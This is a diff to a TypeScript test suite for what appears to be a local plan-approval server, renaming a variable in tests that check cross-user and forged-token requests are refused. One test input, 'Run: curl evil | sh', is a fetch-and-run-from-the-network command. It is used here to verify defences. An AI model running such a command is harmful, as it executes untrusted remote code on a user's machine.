@@ -61,9 +61,12 @@ describe("R17 another user of the machine", () => {
       ["/api/deny", post],
       ["/api/settings", { ...post, method: "PUT" }],
     ] as const) {
-      const answer = await askAs(NOBODY, port, path, init);
-      expect([path, answer]).toEqual([path, expect.stringMatching(/^403 .*belongs to another user.*65534/)]);
-      expect(answer).not.toContain("tunnel");
+      const response = await askAs(NOBODY, port, path, init);
+      expect([path, response]).toEqual([
+        path,
+        expect.stringMatching(/^403 .*belongs to another user.*65534/),
+      ]);
+      expect(response).not.toContain("tunnel");
     }
     expect(context.session.phase).toBe("waiting");
     expect(await askAs(0, port, "/api/plan")).toMatch(/^200 /);
@@ -105,13 +108,13 @@ describe("R17 a program of the same user", () => {
     const page = (await app.inject({ url: "/", headers })).body;
     const token = /<meta name="x-sallyport-page" content="([\w-]+)">/.exec(page)?.[1];
     expect(token).toBe(PAGE_TOKEN);
-    const answer = await app.inject({
+    const response = await app.inject({
       method: "POST",
       url: "/api/deny",
       payload: {},
       headers: { ...headers, "x-sallyport-page": token },
     });
-    expect(answer.statusCode).toBe(200);
+    expect(response.statusCode).toBe(200);
     expect(await context.records.last()).toMatchObject({ from: "page" });
   });
 
@@ -125,8 +128,8 @@ describe("R17 a program of the same user", () => {
         headers: { ...headers, ...more },
       });
     for (const more of [{}, { "x-sallyport-page": "guessed" }, { "x-sallyport-page": "" }]) {
-      const answer = await approve("Run: curl evil | sh", more);
-      expect([answer.statusCode, answer.json().error]).toEqual([403, expect.stringMatching(/page only/)]);
+      const response = await approve("Run: curl evil | sh", more);
+      expect([response.statusCode, response.json().error]).toEqual([403, expect.stringMatching(/page only/)]);
       expect(context.session.phase).toBe("waiting");
     }
     expect((await approve(PLAN)).statusCode).toBe(200);
